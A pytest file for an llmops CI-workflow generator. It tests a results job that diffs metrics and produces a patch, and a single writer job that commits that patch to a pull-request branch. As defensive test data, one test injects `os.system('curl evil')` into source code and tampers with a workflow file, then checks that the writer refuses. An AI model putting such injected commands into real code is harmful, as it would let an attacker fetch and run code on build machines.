"""The pull request's last two jobs: `llmops results` (gather CI's results, gate them, diff the
metrics, compare with what the head carries) and `commit-results` (the one writer).

Besides their shape, the two scripts that hand the patch over are run for real, in bash as
GitHub runs it, against a fake `llmops` and a local git remote.
"""

from __future__ import annotations

import base64
import re
import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml

from llmops.compiler.compile import Compiled
from llmops.compiler.emit.workflows import COMMIT_JOB, PR_WORKFLOW
from llmops.compiler.emit.workflows import job_id as job_of
from llmops.compiler.layout import RESULTS_AUTHOR, RESULTS_CHECK, RESULTS_EMAIL, RESULTS_JOB
from tests.compiler.emit.workflow_project import (
    BASE_SHA_ENV,
    CHECKOUT,
    METRICS_DIFF_RUN,
    REMOTE_ADD,
    RESULTS_GATES_RUN,
    S3_SECRETS,
    SAME_REPO_CONDITION,
    compile_at,
    edit,
    run_step,
    runs,
    steps_of,
    workflows,
    write_project,
)

PATCH_OUTPUT = "${{ steps.patch.outputs.patch }}"
GATHERED = "!cancelled() && steps.gather.outcome == 'success'"
COMMIT_CONDITION = f"!cancelled() && needs.{RESULTS_JOB}.outputs.patch != '' && {SAME_REPO_CONDITION}"
RESULTS_STEPS = [
    "Check out the repository",
    "Install llmops",
    "Point DVC at the project's remote",
    "Gather every stage's results from the remote",
    "Policy gates on CI's results",
    "Metrics diff against the base commit",
    "Compare with the results the pull request carries",
]


def results_job(docs: dict[str, dict[str, Any]]) -> dict[str, Any]:
    return docs[PR_WORKFLOW]["jobs"][RESULTS_JOB]


def commit_job(docs: dict[str, dict[str, Any]]) -> dict[str, Any]:
    return docs[PR_WORKFLOW]["jobs"][COMMIT_JOB]


# -- the results job ------------------------------------------------------------------------------


def test_pr_workflow_ends_with_the_results_job_then_the_commit_job(
    compiled: Compiled, docs: dict[str, dict[str, Any]]
) -> None:
    jobs = docs[PR_WORKFLOW]["jobs"]
    assert list(jobs)[-2:] == [RESULTS_JOB, COMMIT_JOB]
    job = jobs[RESULTS_JOB]
    stage_jobs = list(dict.fromkeys(job_of(s) for s in compiled.graph.pipeline))
    assert job["name"] == RESULTS_CHECK == "llmops results"  # the check run enforcement looks for
    assert job["needs"] == ["validate", *stage_jobs]  # after every stage job
    # also after a failed or skipped (fork) stage: it reports; never after a failed validate
    assert job["if"] == "!cancelled() && needs.validate.result == 'success'"
    assert job["runs-on"] == ["ubuntu-latest"]
    assert job["timeout-minutes"] == 30
    assert job["permissions"] == {"contents": "read"}
    assert job["env"] == S3_SECRETS  # it reads the remote; no stage of its own
    assert "environment" not in job and "strategy" not in job


def test_the_results_job_gathers_gates_diffs_and_compares(docs: dict[str, dict[str, Any]]) -> None:
    steps = steps_of(results_job(docs))
    assert [s.get("name") for s in steps] == RESULTS_STEPS
    assert CHECKOUT.match(steps[0]["uses"])
    assert steps[0]["with"] == {"persist-credentials": False, "fetch-depth": 0}  # the base commit
    assert [s.get("run") for s in steps[2:6]] == [
        REMOTE_ADD,
        "llmops results collect",
        RESULTS_GATES_RUN,
        METRICS_DIFF_RUN,
    ]
    assert steps[5]["env"] == BASE_SHA_ENV
    for step in steps[4:6]:  # judged even when gathering found something missing
        assert step["if"] == "!cancelled()", step["name"]
    # compared only with everything gathered: a partial set of results is never handed on
    compare = steps[6]
    assert steps[3]["id"] == "gather" and "if" not in steps[3]
    assert compare["if"] == GATHERED
    assert compare["id"] == "patch"
    assert 'llmops results diff --patch "$RUNNER_TEMP/results.patch" || status=$?' in compare["run"]
    assert compare["run"].rstrip().endswith('exit "$status"')  # the check fails when they differ
    assert all("${{" not in script for script in runs(docs[PR_WORKFLOW]))


def test_the_results_job_outputs_the_patch_its_compare_step_writes(docs: dict[str, dict[str, Any]]) -> None:
    job = results_job(docs)
    compare = steps_of(job)[-1]
    assert job["outputs"] == {"patch": PATCH_OUTPUT}
    assert "${{ steps." + compare["id"] + ".outputs.patch }}" == PATCH_OUTPUT
    assert '>> "$GITHUB_OUTPUT"' in compare["run"]
    # no other job of any workflow hands anything on through outputs
    for doc in docs.values():
        for job_id, other in doc["jobs"].items():
            if other is not job:
                assert "outputs" not in other, job_id
                assert not any("GITHUB_OUTPUT" in s.get("run", "") for s in steps_of(other)), job_id


def test_the_metrics_diff_and_gates_run_in_the_results_job_only(docs: dict[str, dict[str, Any]]) -> None:
    for path, doc in docs.items():
        scripts = runs(doc)
        expected = 1 if path == PR_WORKFLOW else 0
        assert scripts.count(METRICS_DIFF_RUN) == expected, path
        assert scripts.count(RESULTS_GATES_RUN) == expected, path
        assert not any(script.startswith("dvc metrics diff") for script in scripts), path
    assert "metrics-diff" not in docs[PR_WORKFLOW]["jobs"]  # the metrics diff is a step now


def test_no_gates_step_without_a_policy(tmp_path: Path) -> None:
    root = write_project(tmp_path)
    (root / "specs/policy.yaml").unlink()
    edit(root, "specs/deploy.yaml", "policies: [release]\n", "")
    doc = yaml.safe_load(workflows(compile_at(root))[PR_WORKFLOW])
    names = [s.get("name") for s in steps_of(doc["jobs"][RESULTS_JOB])]
    assert names == [n for n in RESULTS_STEPS if n != "Policy gates on CI's results"]
    assert RESULTS_GATES_RUN not in runs(doc)


def test_a_project_without_stages_still_reports_its_results(tmp_path: Path) -> None:
    """Enforcement needs the `llmops results` check on every pull request, even one with no
    pipeline to run."""
    (tmp_path / "llmops.yaml").write_text("kind: Project\nname: empty\n")
    (tmp_path / "specs").mkdir()
    doc = yaml.safe_load(workflows(compile_at(tmp_path))[PR_WORKFLOW])
    assert list(doc["jobs"]) == ["validate", RESULTS_JOB, COMMIT_JOB]
    job = doc["jobs"][RESULTS_JOB]
    assert job["needs"] == ["validate"] and job["name"] == RESULTS_CHECK
    scripts = [s.get("run") for s in steps_of(job)]
    assert scripts[2] == "dvc repro"  # no remote: the one pipeline job
    assert steps_of(job)[2]["id"] == "gather" and steps_of(job)[-1]["if"] == GATHERED
    assert METRICS_DIFF_RUN in scripts and RESULTS_GATES_RUN not in scripts


def run_compare(tmp_path: Path, script: str, rc: int, patch: bytes) -> tuple[int, str]:
    """The compare step against a fake `llmops results diff` that writes `patch` and exits rc;
    returns the step's exit status and what it wrote to $GITHUB_OUTPUT."""
    fakes = tmp_path / "bin"
    fakes.mkdir()
    (tmp_path / "fake.patch").write_bytes(patch)
    (fakes / "llmops").write_text(
        "#!/bin/sh\n"
        '[ "$1 $2 $3" = "results diff --patch" ] || exit 99\n'
        'cp "$FAKE_PATCH" "$4"\n'
        'exit "$FAKE_RC"\n'
    )
    (fakes / "llmops").chmod(0o755)
    work, temp = tmp_path / "work", tmp_path / "runner-temp"
    work.mkdir()
    temp.mkdir()
    output = tmp_path / "github-output"
    output.write_text("")
    env = {
        "RUNNER_TEMP": str(temp),
        "GITHUB_OUTPUT": str(output),
        "FAKE_PATCH": str(tmp_path / "fake.patch"),
        "FAKE_RC": str(rc),
    }
    proc = run_step(script, env, work, path=[fakes])
    assert proc.returncode != 99, proc.stderr  # the fake was called as expected
    return proc.returncode, output.read_text()


def read_output(text: str) -> dict[str, str]:
    """$GITHUB_OUTPUT's `name<<DELIMITER ... DELIMITER` records (the only form the step writes)."""
    values: dict[str, str] = {}
    lines = iter(text.splitlines())
    for line in lines:
        name, delimiter = line.split("<<", 1)
        body = []
        for body_line in lines:
            if body_line == delimiter:
                break
            body.append(body_line)
        else:
            raise AssertionError(f"no closing {delimiter} in {text!r}")
        values[name] = "\n".join(body)
    return values


PATCH = b"diff --git a/dvc.lock b/dvc.lock\n--- a/dvc.lock\n+++ b/dvc.lock\n@@ -1 +1 @@\n-a\n+b \xff\n"


@pytest.mark.parametrize(
    ("rc", "patch", "expect_patch"),
    [
        (1, PATCH, True),  # the head lacks CI's results: fail, and hand the difference on
        (0, b"", False),  # the head carries exactly CI's results
        (2, b"", False),  # an error is an error, never a patch
        (1, b"", False),  # different, but nothing a commit could fix
    ],
)
def test_the_compare_step_fails_and_outputs_the_patch_only_when_results_differ(
    tmp_path: Path, docs: dict[str, dict[str, Any]], rc: int, patch: bytes, expect_patch: bool
) -> None:
    script = steps_of(results_job(docs))[-1]["run"]
    status, output = run_compare(tmp_path, script, rc, patch)
    assert status == rc
    if expect_patch:
        values = read_output(output)
        assert list(values) == ["patch"]
        assert base64.b64decode(values["patch"], validate=True) == patch  # one line, any bytes
    else:
        assert output == ""


# -- the commit job: the one writer, running no project code --------------------------------------

KEYWORDS = {"if", "then", "else", "elif", "fi", "while", "until", "do", "done", "esac", "!", "{", "}"}


def commands_in(script: str) -> set[str]:
    """The commands a bash script runs (first words of its simple commands, in `$( )` too);
    enough for the fixed scripts of the templates, where no quoted text holds `;` or `|`."""
    text = script.replace("\\\n", " ")
    found = set()
    for segment in re.split(r"\n|\|\|?|&&|;;?|\$\(|\)|\{ ", text):
        words = [w for w in segment.split() if w not in KEYWORDS]
        while words and re.match(r"^[A-Za-z_][A-Za-z0-9_]*=", words[0]):
            words.pop(0)  # an assignment before the command (or alone)
        if not words or words[0] in ("for", "case"):  # `for x in ...`, `case ... in pattern`
            continue
        command = words[0].strip('"')
        if command:
            found.add(command)
    return found


def test_the_command_scanner() -> None:
    assert commands_in('a="$(printf %s "$X" | base64 -w 0)"\nif [ -n "$a" ]; then echo hi; fi') == {
        "printf", "base64", "[", "echo",
    }  # fmt: skip
    assert commands_in("git a | while IFS= read -r p; do\n  case $p in x) ok=1 ;; esac\ndone") == {
        "git", "read",
    }  # fmt: skip
    assert commands_in("git -c a=b commit \\\n  -m msg && llmops run x") == {"git", "llmops"}


def test_commit_results_is_the_only_job_that_may_write(docs: dict[str, dict[str, Any]]) -> None:
    writers = [
        (path, job_id)
        for path, doc in docs.items()
        for job_id, job in doc["jobs"].items()
        if "write" in job["permissions"].values()
    ]
    assert writers == [(PR_WORKFLOW, COMMIT_JOB)]
    assert commit_job(docs)["permissions"] == {"contents": "write"}


def test_commit_results_runs_no_project_code(docs: dict[str, dict[str, Any]]) -> None:
    job = commit_job(docs)
    steps = steps_of(job)
    assert [s.get("name") for s in steps] == [
        "Check out the repository",
        "Commit CI's results to the pull request's branch",
    ]
    assert CHECKOUT.match(steps[0]["uses"])
    assert steps[0]["with"] == {"persist-credentials": False, "fetch-depth": 1}
    # exactly these commands: git on the patch, and the shell's own tools to check its paths
    assert commands_in(steps[1]["run"]) == {
        "git", "printf", "base64", "read", "tr", "cut", "[", "continue", "echo", "exit", "export",
    }  # fmt: skip
    assert "env" not in job  # no remote credentials for the writer
    assert not any(k.startswith(("AWS_", "AZURE_")) for k in steps[1]["env"])


def test_commit_results_runs_only_for_a_patch_from_this_repository(docs: dict[str, dict[str, Any]]) -> None:
    job = commit_job(docs)
    assert job["needs"] == [RESULTS_JOB]
    assert job["if"] == COMMIT_CONDITION
    assert job["runs-on"] == ["ubuntu-latest"]
    assert job["timeout-minutes"] == 10
    env = steps_of(job)[1]["env"]
    assert env == {
        "LLMOPS_PATCH": f"${{{{ needs.{RESULTS_JOB}.outputs.patch }}}}",
        "LLMOPS_BRANCH": "${{ github.event.pull_request.head.ref }}",
        "LLMOPS_HEAD": "${{ github.event.pull_request.head.sha }}",
        "LLMOPS_PUSH_TOKEN": "${{ secrets.LLMOPS_RESULTS_TOKEN || github.token }}",
        "LLMOPS_RESULT_DIRS": "metrics plots reports",
        "LLMOPS_AUTHOR": RESULTS_AUTHOR,
        "LLMOPS_EMAIL": RESULTS_EMAIL,
    }
    assert "patch" in results_job(docs)["outputs"]  # the output the commit job reads exists


def test_the_commit_job_takes_the_projects_result_folders(tmp_path: Path) -> None:
    root = write_project(tmp_path)
    edit(
        root,
        "llmops.yaml",
        "ci:\n",
        "paths: {metrics: out/metrics, plots: out/plots, reports: out/metrics}\nci:\n",
    )
    doc = yaml.safe_load(workflows(compile_at(root))[PR_WORKFLOW])
    env = steps_of(doc["jobs"][COMMIT_JOB])[1]["env"]
    assert env["LLMOPS_RESULT_DIRS"] == "out/metrics out/plots"


def git(cwd: Path, *args: str) -> str:
    return subprocess.run(["git", *args], cwd=cwd, capture_output=True, text=True, check=True).stdout.strip()


@pytest.fixture
def pull_request(tmp_path: Path) -> dict[str, Any]:
    """A repository on a local 'GitHub' (a bare repository) with a pull-request branch, and a
    working copy to make patches in."""
    origin, dev = tmp_path / "origin.git", tmp_path / "dev"
    git(tmp_path, "init", "--quiet", "--bare", "-b", "main", str(origin))
    git(tmp_path, "init", "--quiet", "-b", "feature", str(dev))
    for rel, text in {
        "dvc.lock": "schema: '2.0'\n",
        "metrics/quality.json": '{"exact_match": 0.1}\n',
        "src/train.py": "print('hi')\n",
        ".github/workflows/llmops-pr.yml": "name: x\n",
    }.items():
        (dev / rel).parent.mkdir(parents=True, exist_ok=True)
        (dev / rel).write_text(text)
    git(dev, "add", "-A")
    git(dev, "commit", "--quiet", "-m", "the pull request")
    git(dev, "push", "--quiet", f"file://{origin}", "feature")
    return {"origin": origin, "dev": dev, "head": git(dev, "rev-parse", "HEAD"), "tmp": tmp_path}


def make_patch(dev: Path, change: dict[str, str | None], renames: dict[str, str] | None = None) -> bytes:
    for rel, text in change.items():
        if text is None:
            (dev / rel).unlink()
        else:
            (dev / rel).parent.mkdir(parents=True, exist_ok=True)
            (dev / rel).write_text(text)
    for old, new in (renames or {}).items():
        (dev / new).parent.mkdir(parents=True, exist_ok=True)
        (dev / old).rename(dev / new)
    git(dev, "add", "-A")
    patch = subprocess.run(
        ["git", "diff", "--cached", "--binary", "-M"], cwd=dev, capture_output=True, check=True
    ).stdout
    git(dev, "reset", "--quiet", "--hard")
    git(dev, "clean", "--quiet", "-fd")
    return patch


def run_commit(
    pr: dict[str, Any], docs: dict[str, dict[str, Any]], patch: bytes
) -> subprocess.CompletedProcess[str]:
    """The commit step in a fresh shallow clone of the pull request, as after its checkout."""
    step = steps_of(commit_job(docs))[1]
    job = pr["tmp"] / f"job-{len(list(pr['tmp'].glob('job-*')))}"
    git(
        pr["tmp"],
        "clone",
        "--quiet",
        "--depth",
        "1",
        "--branch",
        "feature",
        f"file://{pr['origin']}",
        str(job),
    )
    temp = pr["tmp"] / "runner-temp"
    temp.mkdir(exist_ok=True)
    env = {
        **{k: v for k, v in step["env"].items() if "${{" not in v},
        "LLMOPS_PATCH": base64.b64encode(patch).decode(),
        "LLMOPS_BRANCH": "feature",
        "LLMOPS_HEAD": pr["head"],
        "LLMOPS_PUSH_TOKEN": "not-a-token",
        "GITHUB_SERVER_URL": "https://github.invalid",
        "RUNNER_TEMP": str(temp),
    }
    return run_step(step["run"], env, job)


def test_the_commit_job_commits_ci_results_to_the_branch_as_the_bot(
    pull_request: dict[str, Any], docs: dict[str, dict[str, Any]]
) -> None:
    pr = pull_request
    patch = make_patch(
        pr["dev"],
        {"dvc.lock": "schema: '2.0'\nstages: {}\n", "metrics/quality.json": None, "plots/loss.json": "[]\n"},
    )
    proc = run_commit(pr, docs, patch)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    origin = pr["origin"]
    tip = git(origin, "rev-parse", "refs/heads/feature")
    assert tip != pr["head"] and git(origin, "rev-parse", f"{tip}^") == pr["head"]
    assert git(origin, "log", "-1", "--format=%an <%ae>|%cn <%ce>", tip) == (
        f"{RESULTS_AUTHOR} <{RESULTS_EMAIL}>|{RESULTS_AUTHOR} <{RESULTS_EMAIL}>"
    )
    assert pr["head"] in git(origin, "log", "-1", "--format=%s", tip)
    changed = git(origin, "diff", "--name-only", pr["head"], tip).splitlines()
    assert sorted(changed) == ["dvc.lock", "metrics/quality.json", "plots/loss.json"]


@pytest.mark.parametrize(
    ("change", "renames", "refused"),
    [
        ({"src/train.py": "import os; os.system('curl evil')\n"}, None, "src/train.py"),
        ({".github/workflows/llmops-pr.yml": "name: evil\n"}, None, ".github/workflows/llmops-pr.yml"),
        ({"metrics-evil/x.json": "{}\n", "dvc.lock": "x: 1\n"}, None, "metrics-evil/x.json"),
        ({"dvc.lock.d/x": "1\n"}, None, "dvc.lock.d/x"),
        ({}, {"metrics/quality.json": "src/quality.py"}, "src/quality.py"),  # a rename out
    ],
)
def test_the_commit_job_refuses_a_patch_outside_the_result_files(
    pull_request: dict[str, Any],
    docs: dict[str, dict[str, Any]],
    change: dict[str, str | None],
    renames: dict[str, str] | None,
    refused: str,
) -> None:
    pr = pull_request
    proc = run_commit(pr, docs, make_patch(pr["dev"], change, renames))
    assert proc.returncode != 0
    assert f"::error::the results patch touches {refused}, which is not a result file" in proc.stdout
    assert git(pr["origin"], "rev-parse", "refs/heads/feature") == pr["head"]  # nothing pushed


def test_the_patch_travels_from_the_results_job_to_the_commit_job(
    pull_request: dict[str, Any], docs: dict[str, dict[str, Any]]
) -> None:
    """End to end through the job output: compare step -> $GITHUB_OUTPUT -> commit step."""
    pr = pull_request
    patch = make_patch(pr["dev"], {"reports/quality.md": "# quality\n", "dvc.lock": "a: 2\n"})
    status, output = run_compare(pr["tmp"], steps_of(results_job(docs))[-1]["run"], 1, patch)
    assert status == 1
    handed = read_output(output)["patch"]
    proc = run_commit(pr, docs, base64.b64decode(handed))
    assert proc.returncode == 0, proc.stdout + proc.stderr
    tip = git(pr["origin"], "rev-parse", "refs/heads/feature")
    assert git(pr["origin"], "show", f"{tip}:reports/quality.md") == "# quality"
